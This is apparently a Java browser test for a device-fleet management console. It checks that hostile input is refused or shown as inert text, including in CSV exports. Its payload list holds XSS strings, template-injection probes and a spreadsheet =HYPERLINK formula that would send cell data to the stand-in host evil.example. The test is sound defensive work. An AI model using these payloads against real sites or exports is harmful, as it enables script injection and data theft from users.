package org.thingward.app;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/**
 * What devices, files and people can put into the console, written to be run: names are refused,
 * all else is shown as the text that it is. Of a device's messages, wills, topics and client ids no
 * page shows anything: the API has no member for them.
 *
 * @param browser the browser
 * @param page the page in it, of somebody who is logged in
 * @param origin where the console is
 */
record ConsoleHostileText(Browser browser, String page, String origin) {
  private static final List<String> PAYLOADS =
      List.of(
          "<img src=x onerror=window.hacked=1>",
          "\"'><svg/onload=window.hacked=1>{{7*7}}${7*7}",
          "</td></script><script>window.hacked=1</script>",
          "javascript:window.hacked=1//<a href=javascript:window.hacked=1>",
          "=HYPERLINK(\"https://evil.example/?\"&A1,\"look\")");
  private static final String SENT =
      """
      async (a) => { const answer = await fetch('/api/v1' + a.path, {method: a.method, body: a.body,
        headers: {'thingward-console': '1', 'content-type': a.type}});
        return {status: answer.status, text: await answer.text()} }
      """;
  private static final String JSON = "application/json";

  /** Tries all of it; throws where anything ran, or was shown as something else. */
  void isTextOrRefused() {
    int before = browser.run("said", page).size();
    for (String payload : PAYLOADS) {
      itIsNoName(payload);
    }
    itIsImportedAsText();
    itIsAReason();
    itIsAPolicy();
    itIsAQueryAndALink();
    nothingRan(before);
  }

  /** Whatever has a name of its own: the grammar of names has no room for it (rule I5). */
  private void itIsNoName(String payload) {
    String encoded = encoded(payload);
    List<Sent> refused = new ArrayList<>();
    refused.add(json("POST", "/devices", record(payload, "pump", "oslo")));
    refused.add(json("POST", "/devices", record("x", payload, "oslo")));
    refused.add(json("POST", "/devices", record("x", "pump", payload)));
    refused.add(json("PUT", "/products/" + encoded, Map.of()));
    refused.add(json("PUT", "/releases/pump/" + encoded, Map.of()));
    refused.add(json("POST", "/tokens", Map.of("device", payload)));
    refused.add(json("POST", "/tokens", Map.of("service", payload)));
    refused.add(json("POST", "/operators/changes", invitation(payload, "soc")));
    refused.add(json("POST", "/operators/changes", invitation("eve", payload)));
    Map<String, ?> claims = Map.of("order", Map.of("word", payload));
    refused.add(
        json(
            "POST",
            "/evidence",
            Map.of("subject", "device:own", "kind", "operator.order", "claims", claims)));
    for (int column = 0; column < 6; column++) {
      if (column != 3) {
        List<String> cells = new ArrayList<>(List.of("x", "pump", "", "", "oslo", "active"));
        cells.set(column, quoted(payload));
        refused.add(imported(String.join(",", cells)));
      }
    }
    for (Sent sent : refused) {
      assertThat(sent(sent).path("status").asInt()).as("%s", sent).isBetween(400, 422);
    }
  }

  /** The owner of a device and the maker of a product are free text. */
  private void itIsImportedAsText() {
    for (int i = 0; i < PAYLOADS.size(); i++) {
      String payload = PAYLOADS.get(i);
      JsonNode answer =
          sent(imported("hostile-%d,pump,,%s,oslo,active".formatted(i, quoted(payload))));
      assertThat(answer.path("status").asInt()).as("%s", answer).isEqualTo(200);
      must(json("PUT", "/products/pump", Map.of("maker", payload)));
      open("/#/fleet/hostile-" + i);
      sees("owner " + payload);
    }
    open("/#/fleet?query=id:hostile-1");
    sees("1 of ");
    JsonNode exported = sent(new Sent("GET", "/devices/export?format=csv", JSON, ""));
    assertThat(exported.path("text").asString())
        .as("a spreadsheet that opens the export runs nothing of it")
        .contains("\"'=HYPERLINK(")
        .doesNotContain(",=", ",\"=");
  }

  /** On the device's page, in its record, and where an operator's claim is spelt out. */
  private void itIsAReason() {
    for (int i = 0; i < PAYLOADS.size(); i++) {
      must(
          json("POST", "/devices/hostile-" + i + "/quarantine", Map.of("reason", PAYLOADS.get(i))));
      open("/#/fleet/hostile-" + i);
      sees("order is quarantine");
      sees(PAYLOADS.get(i));
    }
    open("/#/fleet");
    sees("Not affirming, by");
    browser.run("follow", page, "name", "See why");
    sees("order.reason");
    open("/#/ledger/" + lastEntry());
    sees("hold");
  }

  /** In a draft, and in what is wrong with it. */
  private void itIsAPolicy() {
    open("/#/policy");
    sees("Understood");
    String draft =
        "# " + PAYLOADS.getFirst() + "\npolicy-language: 1\n" + PAYLOADS.get(2) + ": 1\n";
    browser.run("fill", page, "label", "The policy’s text", "text", draft);
    sees("Line 3, column");
    sees(PAYLOADS.getFirst());
    browser.run("click", page, "name", "Drop the draft");
    sees("as it is in force");
  }

  private void itIsAQueryAndALink() {
    for (String payload : PAYLOADS) {
      open("/#/fleet/" + encoded(payload));
      sees("Nothing is known of " + payload);
      for (String link :
          List.of("fleet?query=", "approvals/", "waves/", "ledger/", "approvals?state=")) {
        browser.run("go", page, "url", origin + "/#/" + link + encoded(payload));
        browser.run("settled", page);
        browser.run("until", page, "script", "() => document.querySelector('main h1') !== null");
      }
      open("/#device=" + encoded(payload));
      sees("Log in a program");
    }
  }

  private void nothingRan(int before) {
    assertThat(browser.script(page, "() => String(window.hacked)", "").asString())
        .isEqualTo("undefined");
    List<String> said = browser.texts(browser.run("said", page));
    assertThat(said.subList(before, said.size()))
        .as("what Chromium says of the pages: no script that ran, no breach of their policy")
        .noneMatch(line -> line.contains("breach:") || line.contains("dialog:"));
  }

  private String lastEntry() {
    JsonNode checkpoint = sent(new Sent("GET", "/log/checkpoint", JSON, ""));
    return Long.toString(Long.parseLong(checkpoint.path("text").asString().split("\n")[1]) - 1);
  }

  private record Sent(String method, String path, String type, String body) {}

  private static Sent json(String method, String path, Map<String, ?> body) {
    return new Sent(method, path, JSON, JsonMapper.shared().writeValueAsString(body));
  }

  private static Sent imported(String row) {
    String header = "device,product,release,owner,region,lifecycle\r\n";
    return new Sent("POST", "/devices/import", "text/csv", header + row + "\r\n");
  }

  private static Map<String, ?> record(String id, String product, String region) {
    return Map.of("id", id, "product", product, "region", region);
  }

  private static Map<String, ?> invitation(String operator, String team) {
    return Map.of(
        "kind",
        "invitation",
        "operator",
        operator,
        "roles",
        List.of(Map.of("role", "viewer")),
        "teams",
        List.of(team));
  }

  private static String quoted(String cell) {
    return '"' + cell.replace("\"", "\"\"") + '"';
  }

  private static String encoded(String text) {
    return URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
  }

  private JsonNode sent(Sent sent) {
    Map<String, Object> asked = new HashMap<>();
    asked.putAll(Map.of("method", sent.method(), "path", sent.path(), "type", sent.type()));
    if (!sent.method().equals("GET")) {
      asked.put("body", sent.body());
    }
    return browser.script(page, SENT, asked);
  }

  private void must(Sent sent) {
    JsonNode answer = sent(sent);
    assertThat(answer.path("status").asInt()).as("%s: %s", sent, answer).isBetween(200, 201);
  }

  private void open(String link) {
    browser.run("load", page, "url", origin + link);
  }

  private void sees(String text) {
    browser.run("sees", page, "text", text);
  }
}
